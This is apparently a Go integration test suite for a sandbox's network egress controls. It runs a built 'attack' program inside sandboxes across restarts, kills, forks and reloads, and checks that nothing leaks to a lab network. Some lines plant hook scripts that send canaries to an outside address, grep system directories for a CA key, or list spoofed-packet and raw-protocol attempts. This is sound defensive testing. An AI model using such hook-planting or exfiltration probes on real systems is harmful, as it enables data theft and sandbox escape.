//go:build linux

package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/warren-sandbox/warren"
	"github.com/warren-sandbox/warren/driver/docker/dockertest"
	"github.com/warren-sandbox/warren/driver/drivertest/egress"
	"github.com/warren-sandbox/warren/internal/secret/secrettest"
	"github.com/warren-sandbox/warren/internal/testenv"
)

// attackProgram returns a directory with what attacks a network, and the lab's authority.
func attackProgram(t *testing.T, n *internet) string {
	t.Helper()
	path, err := testenv.Build(filepath.Join(testenv.Repo(t), ".cache", "attack"), "attack", "./driver/drivertest/egress/attack")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	for _, d := range []string{dir, filepath.Dir(dir)} {
		// Attacks are made as other users too.
		if err := os.Chmod(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	b, err := os.ReadFile(path)
	if err == nil {
		err = testenv.WriteProgram(filepath.Join(dir, "attack"), b)
	}
	if err == nil {
		err = os.WriteFile(filepath.Join(dir, "roots.pem"), n.roots, 0o644)
	}
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

// labHome is a home whose programs are in an internet.
func labHome(t *testing.T, n *internet) *home {
	t.Helper()
	h := newHome(t)
	h.env = h.inInternet(n)
	return h
}

// inInternet returns the environment of programs that are in an internet.
func (h *home) inInternet(n *internet) []string {
	h.t.Helper()
	roots := filepath.Join(h.dir, "lab-roots.pem")
	if err := os.WriteFile(roots, n.roots, 0o644); err != nil {
		h.t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(h.dir, "policies"), 0o755); err != nil {
		h.t.Fatal(err)
	}
	return []string{"WARREN_GATEWAY_RESOLVER=" + egress.DNS + ":53", "WARREN_GATEWAY_ROOTS=" + roots}
}

// policy writes a policy of the daemon's.
func (h *home) policy(name, text string) {
	h.t.Helper()
	// By a rename, so that no half of it is read.
	file := filepath.Join(h.dir, "policies", name+".yaml")
	err := os.WriteFile(file+".new", []byte(text), 0o644)
	if err == nil {
		err = os.Rename(file+".new", file)
	}
	if err != nil {
		h.t.Fatal(err)
	}
}

// inLab runs warren in an internet, which it has to be started from for the daemon to be there too.
func (h *home) inLab(n *internet, args ...string) string {
	h.t.Helper()
	out, err := n.output(h.command(args...))
	if err != nil {
		h.t.Fatalf("warren %s: %v", strings.Join(args, " "), err)
	}
	return strings.TrimSpace(out)
}

// names that the policy of the attacked sandbox allows.
func allowedNames() (names []string) {
	for name := range egress.Names {
		if name != egress.Wild {
			names = append(names, name)
		}
	}
	slices.Sort(names)
	return names
}

// egressPolicy allows the lab's servers, and names that lead where none may. More is added to its rules.
func egressPolicy(more string) string {
	var others []string
	for _, name := range allowedNames() {
		if !slices.Contains([]string{egress.Allowed, egress.Passed, egress.Plain, egress.Bank, egress.Branch}, name) {
			others = append(others, name)
		}
	}
	return fmt.Sprintf(`allow:
  - {name: inspected, host: %s, inspect: true}
  - {name: passed, hosts: [%s, "*.wild.lab"]}
  - {name: plain, host: %s, protocol: http}
  - {name: astray, hosts: [%s]}
  - {name: astray over http, hosts: [%[4]s], protocol: http}
  - {name: metadata, cidr: 169.254.169.254/32, protocol: http}
  - {name: bank, host: %[5]s, ports: [443, 8443]}
  - {name: bank over http, host: %[5]s, protocol: http}
  - {name: branch, host: %[6]s, inspect: true}
%[7]ssecrets:
  - {secret: bank-key, env: %[8]s, host: %[5]s, paths: [/echo/**], place: {header: Authorization, format: "Bearer {}"}}
`, egress.Allowed, egress.Passed, egress.Plain, strings.Join(others, ", "), egress.Bank, egress.Branch, more, egress.TokenVariable)
}

// harmless says whether a sign is one that a sandbox may leave: of what its policy allows.
func harmless(sign string) bool {
	kind, rest, _ := strings.Cut(sign, " ")
	switch kind {
	case "tcp", "udp":
		a, err := netip.ParseAddrPort(rest)
		if err != nil {
			return false
		}
		// No engine is there; see testenv.NoEngine.
		return kind == "tcp" && egress.Servers(a.Addr()) && (a.Port() == 80 || a.Port() == 443 || a.Port() == 8443) || a.Addr().String() == egress.DNS && a.Port() == 53 || "tcp://"+rest == testenv.NoEngine
	case "dns":
		qtype, name, _ := strings.Cut(rest, " ")
		return (qtype == "A" || qtype == "AAAA") && egress.Names[strings.TrimSuffix(name, ".")] != nil
	case "request":
		method, url, _ := strings.Cut(rest, " ")
		host, path, _ := strings.Cut(url, "/")
		if name, _, err := net.SplitHostPort(host); err == nil {
			host = name
		}
		return egress.Names[host] != nil && (path == "" || path == "redirect" || host == egress.Bank) && (method == "GET" || method == "POST")
	case "secret":
		return sign == egress.Secret(egress.Names[egress.Bank][0], 443)
	case "used":
		return strings.HasPrefix(rest, "/echo/")
	}
	return false
}

// found adds what came back of secrets to what was seen.
func (n *internet) found(r egress.Report, seen map[string]int) {
	for _, try := range r.Tries {
		for _, scan := range n.scans {
			if try.Back != nil && len(scan.Text(try.What, string(try.Back))) > 0 {
				seen[try.Signs[0]]++
			}
		}
	}
}

// verdict is what became of the attacks in one state: what failed, by case.
func verdict(r egress.Report, seen map[string]int) map[string][]string {
	bad := map[string][]string{}
	owner := map[string]string{}
	for _, try := range r.Tries {
		if bad[try.Case] == nil {
			bad[try.Case] = []string{}
		}
		for _, s := range try.Signs {
			owner[s] = try.Case
			if seen[s] > 0 && !harmless(s) {
				bad[try.Case] = append(bad[try.Case], fmt.Sprintf("%s left %q and got %s", try.What, s, try.Got))
			}
		}
	}
	for s := range seen {
		if !harmless(s) && owner[s] == "" {
			bad["?"] = append(bad["?"], s)
		}
	}
	return bad
}

// notSeen are the signs that attacks did not leave where nothing stops them.
func notSeen(r egress.Report, seen map[string]int) (list []string) {
	for _, try := range r.Tries {
		if len(try.Signs) == 0 {
			list = append(list, fmt.Sprintf("%s: %s has no sign", try.Case, try.What))
		}
		for _, s := range try.Signs {
			if seen[s] == 0 {
				list = append(list, fmt.Sprintf("%s: %s left no %q, and got %s", try.Case, try.What, s, try.Got))
			}
		}
	}
	return list
}

func parseReport(t *testing.T, out string) (r egress.Report) {
	t.Helper()
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		t.Fatalf("%v of %.500q", err, out)
	}
	if len(r.Tries) < 10 {
		t.Fatalf("only %d tries", len(r.Tries))
	}
	return r
}

// controlled checks that what is allowed works.
func controlled(t *testing.T, r egress.Report) {
	t.Helper()
	if len(r.Controls) < 4 {
		t.Errorf("only %d requests that are allowed were tried", len(r.Controls))
	}
	for url, got := range r.Controls {
		_, name, _ := strings.Cut(url, "://")
		if want := "200 " + strings.ToLower(strings.TrimSuffix(name, ".")) + " is here"; strings.ToLower(strings.Replace(got, name, strings.TrimSuffix(name, "."), 1)) != want {
			t.Errorf("%s, which is allowed, gives %q", url, got)
		}
	}
}

// bankKeys are the values of a secret, one after the other.
var bankKeys = []string{egress.TwinPrefix + `9f8e7d/6c5b&4a39<"q`, egress.TwinPrefix + `other/1a2b&3c4d<"z`}

// watch has the lab look for values in all that servers read and all that comes back.
func (n *internet) watch(values ...string) {
	n.secrets = values
	for _, v := range values {
		n.scans = append(n.scans, secrettest.New(n.t, map[string]string{"bank-key": v}))
	}
}

// charged checks that the secret was used where it is granted, and that a placeholder came back (C01).
func (n *internet) charged(t *testing.T, r egress.Report, seen map[string]int) {
	t.Helper()
	if !strings.HasPrefix(r.Charge, "200 ") || seen[egress.Used("/echo/nothing")] == 0 || seen[egress.Secret(egress.Names[egress.Bank][0], 443)] == 0 {
		t.Errorf("C01: the bank was not shown the secret: %q", r.Charge)
	}
}

// TestEgressTwin runs the attacks of TestEgressStates with no gateway in between: every one of them has to arrive, or that it does not from a sandbox
// proves nothing.
func TestEgressTwin(t *testing.T) {
	testenv.NeedsMountNamespace(t)
	testenv.NeedsTool(t, "ip", "mount")
	n := newInternet(t)
	n.watch(bankKeys[0])
	dir := attackProgram(t, n)
	hosts := filepath.Join(t.TempDir(), "hosts")
	if err := os.WriteFile(hosts, []byte("127.0.0.1 localhost\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	run := `mount --make-rprivate /; mount --bind "$1" /etc/hosts; "$2" run; exec "$2" run "$3" "$4"`
	cmd := exec.Command("sh", "-ec", run, "sh", hosts, filepath.Join(dir, "attack"), egress.OwnKeys, egress.Flood)
	cmd.Env = append(os.Environ(), egress.TokenVariable+"="+bankKeys[0])
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNS, Pdeathsig: syscall.SIGKILL}
	out, err := n.output(cmd)
	if err != nil {
		t.Fatal(err)
	}
	first, second, _ := strings.Cut(out, "\n")
	r := parseReport(t, first)
	controlled(t, r)
	apart := parseReport(t, second)
	r.Tries = append(r.Tries, apart.Tries...)
	seen := n.signs()
	n.found(r, seen)
	// What the attacks have left behind to go on alone may still be at it.
	for range 50 {
		if len(notSeen(r, seen)) == 0 {
			break
		}
		for s, times := range n.signs() {
			seen[s] += times
		}
	}
	for _, m := range notSeen(r, seen) {
		t.Errorf("in the twin %s", m)
	}
}

// siege is a sandbox that is attacked in each state that it comes into.
type siege struct {
	h   *home
	n   *internet
	dir string // with the program that attacks
	// create are the arguments of create that say which driver and image.
	create []string
	// barred are what nobody inside can begin with, by case, since the kernel or its filter refuses; they are tried all the same.
	barred map[string][]string
	table  *stateTable
	last   int64 // number of a record before the attacks of this state
}

// What the kernels inside refuse to root there. Under gVisor it has no raw sockets but for ICMP, may not change the card, and gets no new mounts or processes'
// namespaces but in a user namespace of its own. Under runc it has none of the capabilities that these would take (see the package docker), and /proc/sys is read-only.
var (
	gvisorBars = map[string][]string{
		"B05": {"ESP", "GRE", "IGMP", "IPIP", "SCTP", "a raw segment of TCP", "an unknown protocol"},
		"B22": {"a container within", "new namespaces"},
		"B34": {"a datagram from another block", "a datagram from the gateway's address", "a frame past the stack", "an address of another block", "the address of a neighbour"},
		"B35": {"a route of its own"},
	}
	runcBars = map[string][]string{
		"B05": {"ESP", "GRE", "ICMP echo", "ICMP echo to an allowed host", "ICMPv6 echo", "IGMP", "IPIP", "SCTP", "a raw segment of TCP", "an unknown protocol"},
		"B22": {"a container within", "a user's container within", "new namespaces"},
		"B34": gvisorBars["B34"],
		"B35": {"a route of its own", "forwarding"},
	}
)

// egressState is a state that an attacked sandbox comes into.
type egressState struct {
	name, sandbox string
	enter         func()
	// anew says that its processes began anew, and hooked that the hooks of what comes back ran.
	anew, hooked bool
}

// where is the directory of the program that attacks, which a restart leaves.
const where = "/tmp/lab"

// begin makes the sandbox that is attacked, and one whose policy grants it nothing.
func (s *siege) begin() {
	h, n := s.h, s.n
	h.policy("lab", egressPolicy(""))
	h.policy("bare", "allow:\n  - {host: "+egress.Bank+", inspect: true}\n")
	h.setSecret(n, bankKeys[0])
	for name, policy := range map[string]string{"bare": "bare", "s": "lab"} {
		h.inLab(n, append([]string{"create", "--name", name, "--policy", policy}, s.create...)...)
		h.inLab(n, "cp", s.dir, name+":"+where)
	}
	n.signs()
	s.table = &stateTable{results: map[string]map[string]string{}}
}

// spray has one process send all the while, also where the test waits for the next state.
func (s *siege) spray(sandbox string) {
	s.h.inLab(s.n, "exec", "-d", "-u", "root", sandbox, "--", where+"/attack", "spray")
}

// hook has hooks of the image's try by what the sandbox is told that it has come back (B22). What they may reach says that they ran.
func (s *siege) hook(sandbox string) {
	s.h.inLab(s.n, "exec", "-u", "root", sandbox, "--", "sh", "-ec", `for d in resume.d fork.d; do
	mkdir -p /etc/warren/hooks/$d
	printf '#!/bin/sh\n/tmp/lab/attack send 11.6.22.20:443 canary-b22-hook\n/tmp/lab/attack send %s:80 "GET / HTTP/1.0\r\nHost: %s\r\n\r\n"\n' "$1" "$1" >/etc/warren/hooks/$d/10-attack
	chmod 755 /etc/warren/hooks/$d/10-attack
done`, "sh", egress.Plain)
}

// attack makes all tries in a state, and counts what arrives.
func (s *siege) attack(t *testing.T, state, sandbox string) {
	h, n := s.h, s.n
	began := time.Now()
	before := h.flowsAfter(n, sandbox, s.last)
	r := parseReport(t, h.inLab(n, "exec", "-u", "root", sandbox, "--", where+"/attack", "run"))
	if len(r.Tries) < 500 {
		t.Errorf("only %d tries", len(r.Tries))
	}
	seen := n.signs()
	n.found(r, seen)
	controlled(t, r)
	n.charged(t, r, seen)
	bad := verdict(r, seen)
	for id, list := range bad {
		for _, what := range list {
			t.Errorf("%s: %s", id, what)
		}
	}
	s.stopped(t, r)
	if len(before) > 0 {
		s.last = before[len(before)-1].Seq
	}
	s.recorded(t, r, h.flowsAfter(n, sandbox, s.last))
	s.table.add(state, r, bad)
	t.Run("C19", func(t *testing.T) { h.rotation(t, n, sandbox) })
	t.Run("C20", func(t *testing.T) { h.stranger(t, n, sandbox) })
	t.Logf("%d tries in %v", len(r.Tries), time.Since(began).Round(time.Millisecond))
}

// stopped checks which tries the kernel inside did not let begin. All others have come to the gateway, so that it is the gateway that has stopped them.
func (s *siege) stopped(t *testing.T, r egress.Report) {
	t.Helper()
	got := map[string][]string{}
	for _, try := range r.Tries {
		for _, refusal := range []string{"operation not permitted", "permission denied", "protocol not supported", "not supported by protocol", "read-only file system"} {
			if strings.Contains(try.Got, refusal) {
				got[try.Case] = append(got[try.Case], try.What)
				break
			}
		}
	}
	for id := range got {
		slices.Sort(got[id])
	}
	if !maps.EqualFunc(got, s.barred, slices.Equal) {
		t.Errorf("the kernel inside refuses %q, want %q", got, s.barred)
	}
}

// run attacks in each state, and prints the table.
func (s *siege) run(t *testing.T, states []egressState) {
	for _, st := range states {
		t.Run(st.name, func(t *testing.T) {
			st.enter()
			if st.anew {
				s.h.inLab(s.n, "exec", "-u", "root", st.sandbox, "--", "rm", "-rf", where, "/tmp/sprayed")
				s.h.inLab(s.n, "cp", s.dir, st.sandbox+":"+where)
				s.spray(st.sandbox)
			}
			if st.hooked {
				if log := s.h.inLab(s.n, "exec", "-u", "root", st.sandbox, "--", "cat", "/run/warren/hooks.log"); !strings.Contains(log, "200 OK") {
					t.Errorf("B22: the hook that attacks did not run: %q", log)
				}
			}
			s.attack(t, st.name, st.sandbox)
			// It went on.
			sprayed := func() string { return s.h.inLab(s.n, "exec", st.sandbox, "--", "sh", "-c", "cat /tmp/sprayed || :") }
			before := sprayed()
			for i := 0; sprayed() == before; i++ {
				if i == 100 {
					t.Fatalf("the process that sends all the while has ended after %s rounds", before)
				}
				time.Sleep(50 * time.Millisecond)
			}
		})
	}
	s.table.print(t)
}

// killDaemon kills the daemon with SIGKILL.
func (h *home) killDaemon() {
	h.t.Helper()
	if err := syscall.Kill(h.daemon(), syscall.SIGKILL); err != nil {
		h.t.Fatal(err)
	}
}

// TestEgressStates attacks the network of a sandbox from inside, in each state that a sandbox comes into, and counts what arrives anywhere: nothing.
// In TestEgressTwin everything arrives.
func TestEgressStates(t *testing.T) {
	n := newInternet(t)
	dir := attackProgram(t, n)
	n.watch(bankKeys...)
	h := labHome(t, n)
	h.env = append(h.env, recordAll)
	s := &siege{h: h, n: n, dir: dir, barred: gvisorBars}
	s.begin()
	s.hook("s")
	s.spray("s")
	s.run(t, []egressState{
		{name: "fresh", sandbox: "s", enter: func() {}},
		{name: "daemon killed", sandbox: "s", enter: h.killDaemon},
		{name: "resumed", sandbox: "s", hooked: true, enter: func() { h.inLab(n, "pause", "s"); h.inLab(n, "resume", "s") }},
		{name: "reloaded", sandbox: "s", enter: func() { s.reload() }},
		{name: "gateway killed", sandbox: "s", enter: func() { h.killGateway(); h.waitControl(n, "s") }},
		{name: "forked", sandbox: "child", hooked: true, enter: func() { h.inLab(n, "fork", "s", "--name", "child") }},
	})
}

// reload changes the policy.
func (s *siege) reload() {
	s.h.policy("lab", egressPolicy("  - {name: one more, host: more.lab}\n"))
	s.h.waitRecord(s.n, "policy.change")
}

// TestDockerEgressStates is TestEgressStates for containers, whose programs call the host's kernel. They have no memory to be paused with, so a restart and a
// fork begin their processes anew. All states run with WARREN_SOAK.
func TestDockerEgressStates(t *testing.T) {
	testenv.NeedsTUN(t)
	n := newInternet(t)
	dir := attackProgram(t, n)
	n.watch(bankKeys...)
	h, _ := startDockerHome(t)
	h.env = append(append(h.env, h.inInternet(n)...), recordAll)
	s := &siege{h: h, n: n, dir: dir, create: []string{"--driver", "docker", "--image", dockertest.ImageName}, barred: runcBars}
	s.begin()
	s.spray("s")
	states := []egressState{
		{name: "fresh", sandbox: "s", enter: func() {}},
		{name: "both killed", sandbox: "s", enter: func() { h.killDaemon(); h.killGateway(); h.inLab(n, "ls"); h.waitControl(n, "s") }},
		{name: "reloaded", sandbox: "s", enter: s.reload},
		{name: "restarted", sandbox: "s", anew: true, enter: func() { h.inLab(n, "restart", "s") }},
	}
	if testenv.Soak() {
		states = append(states, []egressState{
			{name: "daemon killed", sandbox: "s", enter: h.killDaemon},
			{name: "gateway killed", sandbox: "s", enter: func() { h.killGateway(); h.waitControl(n, "s") }},
			{name: "forked", sandbox: "child", anew: true, enter: func() { h.inLab(n, "fork", "s", "--name", "child") }},
		}...)
	}
	s.run(t, states)
}

// setSecret gives the secret a value.
func (h *home) setSecret(n *internet, value string) {
	h.t.Helper()
	cmd := h.command("secret", "set", "bank-key")
	cmd.Stdin = strings.NewReader(value)
	if _, err := n.output(cmd); err != nil {
		h.t.Fatal(err)
	}
}

// rotation changes a secret and takes it away while a connection to the bank is open: the next request has the new value, or is not sent (C19).
func (h *home) rotation(t *testing.T, n *internet, sandbox string) {
	cmd := h.command("exec", "-i", sandbox, "--", "/tmp/lab/attack", "keep")
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := n.start(cmd); err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewScanner(out)
	request := func(want string, shown ...string) {
		t.Helper()
		n.shown()
		io.WriteString(in, "plain\n")
		if !lines.Scan() || !strings.HasPrefix(lines.Text(), want+" ") {
			t.Errorf("an answer %q, want %s", lines.Text(), want)
		}
		if got := n.shown(); !slices.Equal(got, shown) {
			t.Errorf("the bank was shown %q, want %q", got, shown)
		}
		for _, scan := range n.scans {
			if found := scan.Text("the answer", lines.Text()); len(found) > 0 {
				t.Errorf("it came back: %v", found)
			}
		}
	}
	request("200", bankKeys[0])
	h.setSecret(n, bankKeys[1])
	request("200", bankKeys[1])
	h.inLab(n, "secret", "rm", "bank-key")
	request("502")
	h.setSecret(n, bankKeys[0])
	request("200", bankKeys[0])
	in.Close()
	if err := cmd.Wait(); err != nil {
		t.Error(err)
	}
	n.onlyHarmless(t)
}

// onlyHarmless reports what has arrived, but for what is allowed and the use of secrets, which is looked at where they are used. The process that
// sends all the while goes on in every part of the test.
func (n *internet) onlyHarmless(t *testing.T) {
	t.Helper()
	for s, times := range n.signs() {
		if !harmless(s) && !strings.HasPrefix(s, "secret ") && !strings.HasPrefix(s, "used ") {
			t.Errorf("%s was seen %d times", s, times)
		}
	}
}

// stranger has a sandbox that is granted nothing use the placeholder of one that is (C20): it is no more than its letters.
func (h *home) stranger(t *testing.T, n *internet, sandbox string) {
	token := h.inLab(n, "exec", sandbox, "--", "sh", "-c", "echo $"+egress.TokenVariable)
	n.onlyHarmless(t)
	n.shown()
	said := h.inLab(n, "exec", "bare", "--", "/tmp/lab/attack", "stranger", token)
	if got := n.shown(); !slices.Equal(got, []string{token}) || !strings.HasPrefix(token, "wsec_") {
		t.Errorf("the bank was shown %q for %q; %s", got, token, said)
	}
	for s := range n.signs() {
		if strings.HasPrefix(s, "secret ") || strings.HasPrefix(s, "used ") {
			t.Errorf("the bank has seen the value: %s", s)
		} else if !harmless(s) {
			t.Errorf("%s was seen", s)
		}
	}
}

// TestEgressCeilings attacks a sandbox whose policy allows more, with ceilings: what names below a wildcard can carry out is as many of them as there may
// be new hosts (B08), and credentials of the sandbox's own do not get to hosts that are allowed (B37).
func TestEgressCeilings(t *testing.T) {
	const most = 40
	names := "1000"
	if testenv.Soak() {
		names = "10000"
	}
	n := newInternet(t)
	dir := attackProgram(t, n)
	h := labHome(t, n)
	h.policy("lab", fmt.Sprintf("allow:\n  - {hosts: [%s, %s, %s, \"*.wild.lab\"]}\n  - {host: %s, protocol: http}\nplatform_credentials_only: true\nlimits: {new_hosts_per_hour: %d}\n",
		egress.Allowed, egress.Passed, egress.Bank, egress.Plain, most))
	h.inLab(n, "create", "--name", "s", "--policy", "lab")
	h.inLab(n, "cp", dir, "s:/tmp/lab")
	n.signs()
	before := map[string]bool{} // names that were looked up; those that a sandbox has stay its own
	for _, state := range []string{"fresh", "resumed"} {
		if state == "resumed" {
			h.inLab(n, "pause", "s")
			h.inLab(n, "resume", "s")
		}
		t.Run(state, func(t *testing.T) {
			out := h.inLab(n, "exec", "-u", "root", "s", "--", "/tmp/lab/attack", "run", egress.OwnKeys)
			seen := n.signs()
			r := parseReport(t, out)
			for _, try := range r.Tries {
				if !strings.Contains(try.Got, "200 OK") {
					t.Errorf("%s: the request does not get on: %s", try.What, try.Got)
				}
			}
			controlled(t, r)
			for id, list := range verdict(r, seen) {
				for _, what := range list {
					t.Errorf("%s: %s", id, what)
				}
			}
			r = parseReport(t, h.inLab(n, "exec", "-e", egress.FloodVariable+"="+names, "s", "--", "/tmp/lab/attack", "run", egress.Flood))
			seen = n.signs()
			carried := 0
			for _, try := range r.Tries {
				if s := try.Signs[0]; seen[s] > 0 && !before[s] {
					before[s] = true
					carried++
				}
			}
			if carried > most || carried == 0 {
				t.Errorf("%d of %d names were looked up for the first time, of which %d may be", carried, len(r.Tries), most)
			}
			t.Logf("%d of %d names were looked up for the first time", carried, len(r.Tries))
		})
	}
}

// TestEgressBytes carries 64 MiB each way over connections that are passed through and that are inspected, and many small requests over one (B38).
func TestEgressBytes(t *testing.T) {
	n := newInternet(t)
	dir := attackProgram(t, n)
	h := labHome(t, n)
	h.policy("lab", egressPolicy(""))
	h.setSecret(n, bankKeys[0])
	h.inLab(n, "create", "--name", "s", "--policy", "lab")
	h.inLab(n, "cp", dir, "s:/tmp/lab")
	sum := sha256.New()
	if _, err := io.Copy(sum, egress.Bytes()); err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("%x", sum.Sum(nil))
	for _, name := range []string{egress.Passed, egress.Allowed} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			out := h.inLab(n, "exec", "s", "--", "/tmp/lab/attack", "carry", name)
			if got := strings.Fields(out); !slices.Equal(got, []string{want, want, "1000"}) {
				t.Errorf("down, up and requests are %q, want %s twice and 1000", got, want)
			}
		})
	}
}

// TestAuthorityKey looks in a sandbox, its files and its memory for the key of the authority whose certificates it trusts (B43): it has the certificate alone.
func TestAuthorityKey(t *testing.T) {
	n := newInternet(t)
	h := labHome(t, n)
	h.policy("lab", "allow: [{host: "+egress.Allowed+", inspect: true}]\n")
	h.env = append(h.env, "WARREN_SNAPSHOTS_COMPRESS=never")
	h.inLab(n, "create", "--name", "s", "--policy", "lab")
	text, err := os.ReadFile(filepath.Join(h.dir, "gateway", "authority", "ca.key"))
	if err != nil {
		t.Fatal(err)
	}
	block, _ := pem.Decode(text)
	if block == nil {
		t.Fatal("the key is no PEM")
	}
	line := strings.Split(string(text), "\n")[1]
	grep := func() string {
		return h.inLab(n, "exec", "-u", "root", "s", "--", "sh", "-c", `env | grep -F "$1"; grep -rlsF "$1" /etc /home /root /run /tmp /var /workspace /usr/local/share; :`, "sh", line)
	}
	images := func() (found bool) {
		err := filepath.WalkDir(filepath.Join(h.dir, "paused"), func(path string, d fs.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() {
				return err
			}
			b, err := os.ReadFile(path)
			found = found || bytes.Contains(b, []byte(line)) || bytes.Contains(b, block.Bytes)
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		return found
	}
	// Memory first: who looks for the key in files has it in memory.
	if got := h.inLab(n, "exec", "s", "--", "sh", "-c", `grep -c "BEGIN CERTIFICATE" "$NODE_EXTRA_CA_CERTS"`); got == "0" {
		t.Error("the sandbox has no certificate either")
	}
	h.inLab(n, "pause", "s")
	if images() {
		t.Error("the key stands in the memory of the sandbox")
	}
	h.inLab(n, "resume", "s")
	if got := grep(); got != "" {
		t.Errorf("the key stands in %s", got)
	}
	// The twin: a key that is there is found.
	h.inLab(n, "exec", "-d", "s", "--", "sh", "-c", `echo "$1" >/tmp/found; sleep 1000 "$1"`, "sh", line)
	for i := 0; grep() == ""; i++ {
		if i == 100 {
			t.Fatal("a key that is there is not found")
		}
		time.Sleep(50 * time.Millisecond)
	}
	h.inLab(n, "pause", "s")
	if !images() {
		t.Error("a key that is in the memory is not found")
	}
}

// TestFirstPacket starts sandboxes whose first command sends packets before anything else (B30): none arrives, and what is allowed works at once.
// WARREN_STARTS says how many times; there are 1,000 with WARREN_SOAK.
func TestFirstPacket(t *testing.T) {
	starts := testenv.Count(t, "WARREN_STARTS", 25, 1000)
	n := newInternet(t)
	dir := attackProgram(t, n)
	// The twin first: without a gateway all of it arrives.
	out, err := n.output(exec.Command(filepath.Join(dir, "attack"), "first"))
	if err != nil || !strings.HasPrefix(out, "200 ") {
		t.Fatalf("%q, %v", out, err)
	}
	seen := n.signs()
	for _, s := range egress.Start {
		if seen[s] == 0 {
			t.Errorf("in the twin it left no %q", s)
		}
	}
	h := labHome(t, n)
	h.env = append(h.env, "WARREN_POOL=2")
	h.policy("lab", "allow: ["+egress.Allowed+"]\n")
	h.inLab(n, "ls")
	ctx, cancel := context.WithTimeout(t.Context(), time.Duration(starts)*10*time.Second)
	defer cancel()
	c, err := warren.Connect(ctx, warren.Options{URL: "unix://" + filepath.Join(h.dir, "warren.sock")})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	began := time.Now()
	var next, good atomic.Int64
	var wg sync.WaitGroup
	for range 2 {
		wg.Go(func() {
			for i := next.Add(1); i <= int64(starts) && !t.Failed(); i = next.Add(1) {
				sb, err := c.Create(ctx, warren.Spec{Policy: "lab", Mounts: []warren.Mount{{Source: dir, Target: "/tmp/lab"}}})
				if err != nil {
					t.Errorf("create %d: %v", i, err)
					return
				}
				out, err := sb.Command("/tmp/lab/attack", "first").Output(ctx)
				if err != nil || string(out) != "200 "+egress.Allowed+" is here\n" {
					t.Errorf("start %d: %q, %v", i, out, err)
				} else {
					good.Add(1)
				}
				if err := sb.Delete(ctx); err != nil {
					t.Errorf("delete %d: %v", i, err)
				}
			}
		})
	}
	wg.Wait()
	for s, times := range n.signs() {
		if !harmless(s) {
			t.Errorf("%s was seen %d times", s, times)
		}
	}
	t.Logf("%d of %d starts with the policy in force before the first packet, in %v", good.Load(), starts, time.Since(began).Round(time.Second))
}

// waitRecord waits until something is on record.
func (h *home) waitRecord(n *internet, what string) {
	h.t.Helper()
	for range 300 {
		if strings.Contains(h.inLab(n, "events", "--json"), what) {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	h.t.Fatalf("%s never comes on record", what)
}

// waitControl waits until a sandbox is served again.
func (h *home) waitControl(n *internet, sandbox string) {
	h.t.Helper()
	for range 300 {
		if out, err := n.output(h.command("exec", sandbox, "--", "/tmp/lab/attack", "control")); err == nil && strings.Count(out, "200 ") >= 6 {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	h.t.Fatal("the sandbox is never served again")
}

// killGateway kills the gateway with SIGKILL.
func (h *home) killGateway() {
	h.t.Helper()
	b, err := os.ReadFile(filepath.Join(h.dir, "run", "gateway", "gateway.pid"))
	if err != nil {
		h.t.Fatal(err)
	}
	var pid int
	if _, err := fmt.Sscan(string(b), &pid); err != nil {
		h.t.Fatal(err)
	}
	if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
		h.t.Fatal(err)
	}
}

// stateTable is what came of each case in each state.
type stateTable struct {
	states  []string
	cases   []string
	tries   map[string]int
	results map[string]map[string]string
}

func (s *stateTable) add(state string, r egress.Report, bad map[string][]string) {
	s.states = append(s.states, state)
	s.tries = map[string]int{}
	for _, try := range r.Tries {
		s.tries[try.Case]++
		if !slices.Contains(s.cases, try.Case) {
			s.cases = append(s.cases, try.Case)
		}
		if s.results[try.Case] == nil {
			s.results[try.Case] = map[string]string{}
		}
		s.results[try.Case][state] = "0"
		if n := len(bad[try.Case]); n > 0 {
			s.results[try.Case][state] = fmt.Sprint(n)
		}
	}
}

// print prints the table: how many signs of each case were seen in each state.
func (s *stateTable) print(t *testing.T) {
	slices.Sort(s.cases)
	var b strings.Builder
	fmt.Fprintf(&b, "%-6s %5s", "case", "tries")
	for _, state := range s.states {
		fmt.Fprintf(&b, "  %s", state)
	}
	for _, id := range s.cases {
		fmt.Fprintf(&b, "\n%-6s %5d", id, s.tries[id])
		for _, state := range s.states {
			fmt.Fprintf(&b, "  %*s", len(state), s.results[id][state])
		}
	}
	t.Logf("what arrived of each case in each state:\n%s", b.String())
}
